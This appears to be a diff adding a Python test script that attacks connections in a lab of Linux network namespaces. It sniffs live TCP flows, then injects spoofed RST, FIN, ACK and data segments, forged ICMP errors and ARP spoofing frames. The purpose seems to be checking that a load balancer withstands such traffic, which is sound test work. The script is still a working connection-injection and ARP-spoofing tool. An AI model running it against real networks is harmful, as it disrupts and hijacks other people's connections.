@@ -1,0 +1,160 @@
+#!/usr/bin/python3
+"""Raw frames against held connections: attack.py SECONDS. See attack.sh.
+
+Who attacks sees nothing but a connection's numbers as they were a moment ago, which is more than a stranger has; what
+it sends is never just right: beside the window, before it, far away, damaged, from another side, MAC address or VLAN.
+"""
+import ctypes
+import json
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+VIP, PORT = "10.0.0.40", 5061
+FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
+ETH_IPV4, ETH_ARP = 0x0800, 0x0806
+MINE = bytes.fromhex("02deadbeef01")
+TMB = {"dc": bytes.fromhex("020000000001"), "fe2": bytes.fromhex("020000000002")}
+EVERYBODY = b"\xff" * 6
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def enter(namespace):
+    with open(f"/run/netns/{namespace}") as f:
+        if libc.setns(f.fileno(), 0):
+            raise OSError(ctypes.get_errno(), namespace)
+
+
+def listen_in(namespace):
+    enter(namespace)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+    s.bind(("eth0", 3))
+    s.setblocking(False)
+    return s
+
+
+def total(data):
+    data += b"\0" * (len(data) % 2)
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def ipv4(src, dst, protocol, data):
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), random.getrandbits(16), 0x4000, 64, protocol, 0,
+                       socket.inet_aton(src), socket.inet_aton(dst))
+    return head[:10] + struct.pack("!H", total(head)) + head[12:] + data
+
+
+def tcp(src, sport, dst, dport, seq, ack, flags, data=b"", window=65535, damage=0):
+    head = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, window, 0, 0)
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!HH", 6, 20 + len(data))
+    s = total(pseudo + head + data) ^ damage
+    return ipv4(src, dst, 6, head[:16] + struct.pack("!H", s) + head[18:] + data)
+
+
+def ether(to, source, kind, data, vlan=None):
+    tag = struct.pack("!HH", 0x8100, vlan) if vlan is not None else b""
+    return (to + source + tag + struct.pack("!H", kind) + data).ljust(60, b"\0")
+
+
+def arp(oper, mac, ip, to_mac, to_ip):
+    return struct.pack("!HHBBH6s4s6s4s", 1, ETH_IPV4, 6, 4, oper, mac, socket.inet_aton(ip), to_mac,
+                       socket.inet_aton(to_ip))
+
+
+class Attack:
+    def __init__(self):
+        self.seen = listen_in("client")
+        self.server_seen = listen_in("fe1")
+        self.out = {name: listen_in(name) for name in ("dc", "fe2")}
+        self.flows = {}
+        self.served = {}
+        self.sent = {}
+
+    def look(self):
+        """What the connections' ends have said last."""
+        for s, flows in ((self.seen, self.flows), (self.server_seen, self.served)):
+            for _ in range(2000):
+                try:
+                    p = s.recv(100)
+                except BlockingIOError:
+                    break
+                if p[12:14] != b"\x08\x00" or p[23] != 6 or p[14] != 0x45:
+                    continue
+                src, dst = socket.inet_ntoa(p[26:30]), socket.inet_ntoa(p[30:34])
+                sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", p[34:48])
+                length = struct.unpack("!H", p[16:18])[0] - 20 - (offset >> 4) * 4
+                if dport == PORT and dst == VIP and flows is self.flows and not flags & (SYN | FIN | RST):
+                    flows[src, sport] = (seq + length, ack)
+                elif sport == PORT and flows is self.served and not flags & (SYN | FIN | RST):
+                    flows[src, dst, dport] = (seq + length, ack)
+
+    def send(self, what, frm, packet, kind=ETH_IPV4, vlan=None, to=None, source=MINE):
+        try:
+            self.out[frm].send(ether(to or TMB[frm], source, kind, packet, vlan))
+            self.sent[what] = self.sent.get(what, 0) + 1
+        except OSError:
+            pass
+
+    def edges(self, n):
+        """Numbers that are wrong by little, by a window and by much."""
+        return [n + d for d in (1 << 17, 1 << 20, (1 << 20) + 1, 1 << 31, -(1 << 20) - 2, -(1 << 21), -(1 << 31) + 1)] + [
+            random.getrandbits(32) for _ in range(2)]
+
+    def segments(self, src, sport, dst, dport, seq, ack, what):
+        far = 1 << 22
+        for frm in ("dc", "fe2"):
+            for vlan in (None, 99):
+                for n in self.edges(seq):
+                    self.send(f"{what} RST", frm, tcp(src, sport, dst, dport, n, ack, RST), vlan=vlan)
+                    self.send(f"{what} RST ACK", frm, tcp(src, sport, dst, dport, n, ack, RST | ACK), vlan=vlan)
+                    self.send(f"{what} FIN", frm, tcp(src, sport, dst, dport, n, ack + far, FIN | ACK), vlan=vlan)
+                for n in self.edges(ack):
+                    self.send(f"{what} ACK", frm, tcp(src, sport, dst, dport, seq + far, n, ACK), vlan=vlan)
+                    self.send(f"{what} data", frm, tcp(src, sport, dst, dport, seq + far, n, ACK | PSH, b"x" * 64), vlan=vlan)
+            self.send(f"{what} damaged RST", frm, tcp(src, sport, dst, dport, seq, ack, RST | ACK, damage=0x1234))
+            self.send(f"{what} damaged FIN", frm, tcp(src, sport, dst, dport, seq, ack, FIN | ACK, damage=0x1234))
+            self.send(f"{what} SYN", frm, tcp(src, sport, dst, dport, random.getrandbits(32), 0, SYN))
+            self.send(f"{what} SYN ACK", frm, tcp(src, sport, dst, dport, random.getrandbits(32), random.getrandbits(32), SYN | ACK))
+            self.send(f"{what} no ACK", frm, tcp(src, sport, dst, dport, seq, 0, PSH, b"x" * 8))
+
+    def errors(self, src, sport):
+        for code, rest in ((0, 0), (1, 0), (2, 0), (3, 0), (4, 68), (13, 0)):
+            quoted = tcp(VIP, PORT, src, sport, random.getrandbits(32), 0, ACK)[:28]
+            body = struct.pack("!BBHI", 3, code, 0, rest) + quoted
+            body = body[:2] + struct.pack("!H", total(body)) + body[4:]
+            for frm in ("dc", "fe2"):
+                self.send("ICMP error", frm, ipv4("10.0.0.1", VIP, 1, body))
+
+    def neighbours(self):
+        for ip in ("10.0.0.41", "10.0.0.42"):  # servers, which are inside
+            for oper in (1, 2):
+                self.send("ARP of a server", "dc", arp(oper, MINE, ip, EVERYBODY, ip), ETH_ARP, to=EVERYBODY)
+                self.send("ARP of a server", "dc", arp(oper, MINE, ip, TMB["dc"], VIP), ETH_ARP)
+        for mac in (MINE, bytes(6), EVERYBODY, TMB["dc"], TMB["fe2"]):
+            self.send("ARP of nobody", "dc", arp(2, mac, "10.0.0.41", TMB["dc"], VIP), ETH_ARP)
+        for frm in ("dc", "fe2"):  # in a VLAN that isn't theirs
+            self.send("ARP in a VLAN", frm, arp(2, MINE, "10.0.0.100", TMB[frm], VIP), ETH_ARP, vlan=99)
+
+    def run(self, seconds):
+        end = time.time() + seconds
+        while time.time() < end:
+            self.look()
+            for (src, sport), (seq, ack) in random.sample(sorted(self.flows.items()), min(5, len(self.flows))):
+                self.segments(src, sport, VIP, PORT, seq, ack, "client")
+                self.errors(src, sport)
+            for (src, dst, dport), (seq, ack) in random.sample(sorted(self.served.items()), min(3, len(self.served))):
+                self.segments(src, PORT, dst, dport, seq, ack, "server")
+            self.neighbours()
+            time.sleep(0.02)
+        print(json.dumps({"flows": len(self.flows), "sent": sum(self.sent.values()), "kinds": self.sent}))
+
+
+if __name__ == "__main__":
+    attack = Attack()
+    attack.run(float(sys.argv[1]))
